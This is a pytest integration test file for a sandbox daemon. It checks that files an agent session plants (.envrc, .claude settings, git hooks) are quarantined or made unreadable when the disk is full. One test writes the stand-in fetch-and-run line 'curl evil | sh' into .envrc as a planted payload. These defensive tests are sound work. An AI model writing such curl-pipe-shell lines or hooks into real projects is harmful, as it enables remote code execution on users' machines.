"""A session that leaves the disk with no room for the end's renames, with a
real daemon (gitguard/noroom.py): its ballast freed and the plant moved
after all, or the plant made unreadable where it is and the close saying
so, to the Python client (the ``dispatch`` logger) and to ``dispatch exec``
(stderr, exit 3); a checkpoint refused saying why, and a restore with
``force`` going on. The kernel's "no room" (a full ext4 directory, which no
unprivileged test can make) is stood in for by ``tests/no_room.py``."""

from __future__ import annotations

import logging
import os
import re
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

import dispatch
from tests.conftest import REPO, Daemon, shell
from tests.integration.test_cli import run

MADE = "left in place, made unreadable (mode 000): no room to move it aside"
UNREADABLE_TAIL = ("What could not be moved aside is still there, unreadable: look before you make it readable "
                   "again; dispatchd refuses sessions on it until a restart's check passes")


class Full:
    """The module's daemon, and the word that says how full its disk is."""

    def __init__(self, base: Path) -> None:
        self.flag = base / "full"
        (base / "d").mkdir()
        self.daemon = Daemon(base / "d", "--cgroup", "off",
                             prefix=(sys.executable, str(REPO / "tests" / "no_room.py"), str(self.flag)))
        self.ballast = self.daemon.state / "dispatchd" / "ballast"

    def fill(self, word: str) -> None:
        self.flag.write_text(word)


@pytest.fixture(scope="module")
def full(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Full]:
    f = Full(tmp_path_factory.mktemp("noroom"))
    yield f
    assert f.daemon.stop() == 0, f.daemon.log()


@pytest.fixture
def worktree(tmp_path: Path, full: Full) -> Iterator[Path]:
    wt = Path(os.path.realpath(tmp_path)) / "wt"
    wt.mkdir()
    (wt / "README.md").write_text("hello\n")
    yield wt
    full.fill("")  # room again for the next test
    for path in (wt / ".claude", wt / ".envrc"):
        if path.exists() or path.is_symlink():
            os.chmod(path, 0o700)  # for the clean-up


def test_the_ballast_is_freed_for_the_move_and_made_again_at_the_next_open(full: Full, worktree: Path) -> None:
    with full.daemon.connect() as client:
        client.status()  # answered: the start is over (its socket is bound before its checks run)
    assert full.ballast.stat().st_size == 4 << 20, full.daemon.log()  # made at start
    full.fill("until-ballast")
    with full.daemon.connect() as client:
        with client.open_session(str(worktree)) as s:
            assert shell(s, "echo 'curl evil | sh' > .envrc && echo planted").output == "planted\n"
        [item] = s.protected
        assert re.fullmatch(re.escape(str(worktree / ".envrc")) + r"\.quarantined-by-dispatchd-\d+-[0-9a-f]{12}",
                            item["path"]), s.protected
        assert not (worktree / ".envrc").exists() and not full.ballast.exists()
        assert "event=ballast_released" in full.daemon.log()
        full.fill("")
        client.open_session(str(worktree)).close()  # an open makes it again
        assert full.ballast.stat().st_size == 4 << 20


def test_with_no_room_at_all_exec_says_the_plant_was_made_unreadable_and_exits_3(full: Full, worktree: Path) -> None:
    full.fill("always")
    out = run(full.daemon, "exec", "--worktree", str(worktree), "--",
              "sh", "-c", "mkdir .claude && echo '{\"hooks\": 1}' > .claude/settings.json && echo done")
    assert out.returncode == 3, (out.stdout, out.stderr)
    assert out.stdout == "done\n"
    assert out.stderr == (f"dispatch: at the session's end: {worktree}: NOT checked whole: {worktree / '.claude'}: "
                          f"{MADE}. {UNREADABLE_TAIL}\n")
    assert stat.S_IMODE(os.lstat(worktree / ".claude").st_mode) == 0
    with pytest.raises(PermissionError):
        (worktree / ".claude" / "settings.json").read_text()  # what claude would read now
    with full.daemon.connect() as client, pytest.raises(dispatch.DispatchError, match="could not move aside"):
        client.open_session(str(worktree))


def test_session_close_prints_the_same_and_exits_3(full: Full, worktree: Path) -> None:
    full.fill("always")
    with full.daemon.connect() as client:
        s = client.open_session(str(worktree), detached=True)
        shell(s, "echo x > .envrc")
        s.detach()
    out = run(full.daemon, "session", "close", s.id)
    assert out.returncode == 3, (out.stdout, out.stderr)
    assert out.stdout == (f"moved aside or put back: {worktree}: NOT checked whole: {worktree / '.envrc'}: {MADE}. "
                          f"{UNREADABLE_TAIL}\n")


def test_thousands_of_plants_that_cannot_move_are_said_in_bounded_text_and_exit_3(full: Full, worktree: Path) -> None:
    """3,000 plants, none of which can be moved (nor, being files, left
    live: each made unreadable): the close's one failure names the first
    20 and counts the rest, ``dispatch exec`` exits 3, and ``status``
    answers (the whole list ran to megabytes before, past what a reply
    carries, and took ``status`` down for every worktree)."""
    full.fill("always")
    out = run(full.daemon, "exec", "--worktree", str(worktree), "--", "sh", "-c",
              "for i in $(seq 3000); do mkdir -p d$i && echo x > d$i/.envrc; done; echo done")
    assert out.returncode == 3, (out.stdout, out.stderr[:2000])
    [line] = out.stderr.splitlines()
    assert line.startswith(f"dispatch: at the session's end: {worktree}: NOT checked whole: ")
    assert "; and 2980 more that could not be done either. " in line and len(line) < 4000, line[-500:]
    status = run(full.daemon, "status")
    assert status.returncode == 0 and "NOT checked whole" in status.stdout and len(status.stdout) < 20_000
    full.fill("")


def test_the_twin_with_room_exec_says_what_it_moved_aside_and_exits_with_the_command(full: Full,
                                                                                      worktree: Path) -> None:
    out = run(full.daemon, "exec", "--worktree", str(worktree), "--", "sh", "-c", "echo x > .envrc; exit 7")
    assert out.returncode == 7, (out.stdout, out.stderr)
    assert re.fullmatch(r"dispatch: at the session's end: " + re.escape(str(worktree / ".envrc"))
                        + r"\.quarantined-by-dispatchd-\S+: a repository or a file your tools run, changed or new\n",
                        out.stderr), out.stderr
    out = run(full.daemon, "exec", "--worktree", str(worktree), "--", "true")  # nothing planted: nothing said
    assert (out.returncode, out.stderr) == (0, "")


def test_the_python_client_logs_what_the_end_found(full: Full, worktree: Path,
                                                    caplog: pytest.LogCaptureFixture) -> None:
    full.fill("always")
    caplog.set_level(logging.WARNING, logger="dispatch")
    with full.daemon.connect() as client, client.open_session(str(worktree)) as s:
        shell(s, "echo x > .envrc")
    [said] = [(r.levelname, r.getMessage()) for r in caplog.records if r.name == "dispatch"]
    assert said == ("ERROR", f"session {s.id} ended: {worktree}: NOT checked whole: {worktree / '.envrc'}: {MADE}. "
                             f"{UNREADABLE_TAIL}")


def test_a_checkpoint_with_no_room_is_refused_and_a_forced_restore_goes_on(full: Full, worktree: Path) -> None:
    with full.daemon.connect() as client, client.open_session(str(worktree)) as s:
        cp = s.checkpoint("with room")
        shell(s, "echo changed > README.md")
        full.fill("always")
        with pytest.raises(dispatch.DispatchError, match=r"checkpoint refused: \S+: No space left on device "
                                                         r"\(ENOSPC\); what it had copied is removed, the worktree "
                                                         r"is untouched"):
            s.checkpoint("while full")
        with pytest.raises(dispatch.DispatchError, match=r"could not be kept first.*\(ENOSPC\)"):
            s.restore(cp)
        assert (worktree / "README.md").read_text() == "changed\n"  # refused: untouched
        done = s.restore(cp, force=True)  # the caller chose to lose it
        assert done["written"] == 1 and (worktree / "README.md").read_text() == "hello\n"


def test_in_degraded_mode_a_hook_made_unreadable_is_passed_over_by_git(tmp_path: Path) -> None:
    wt = Path(os.path.realpath(tmp_path)) / "repo"
    wt.mkdir()
    subprocess.run(["git", "init", "-q", str(wt)], check=True)
    flag = tmp_path / "full"
    flag.write_text("always")
    (tmp_path / "d").mkdir()
    d = Daemon(tmp_path / "d", "--cgroup", "off", "--no-user-namespaces",
               prefix=(sys.executable, str(REPO / "tests" / "no_room.py"), str(flag)))
    try:
        with d.connect() as client, client.open_session(str(wt)) as s:
            out = shell(s, "printf '#!/bin/sh\\necho HOOK RAN\\n' > .git/hooks/pre-commit && "
                           "chmod 755 .git/hooks/pre-commit && echo planted")
            assert out.output == "planted\n", out.error
        hook = wt / ".git" / "hooks" / "pre-commit"
        assert any(p["why"].startswith(f"NOT checked whole: {hook}: {MADE}") for p in s.protected), s.protected
        assert stat.S_IMODE(os.lstat(hook).st_mode) == 0
        env = dict(os.environ, GIT_AUTHOR_NAME="a", GIT_AUTHOR_EMAIL="a@example.invalid",
                   GIT_COMMITTER_NAME="a", GIT_COMMITTER_EMAIL="a@example.invalid")
        commit = subprocess.run(["git", "commit", "-q", "--allow-empty", "-m", "x"], cwd=wt, env=env,
                                capture_output=True, text=True)
        assert commit.returncode == 0 and "HOOK RAN" not in commit.stdout + commit.stderr
        assert "hook was ignored because it's not set as executable" in commit.stderr
        os.chmod(hook, 0o755)  # the twin: the same hook, readable again, runs (what the mode kept from running)
        commit = subprocess.run(["git", "commit", "-q", "--allow-empty", "-m", "y"], cwd=wt, env=env,
                                capture_output=True, text=True)
        assert "HOOK RAN" in commit.stderr  # git gives a hook stderr for its stdout
    finally:
        assert d.stop() == 0, d.log()
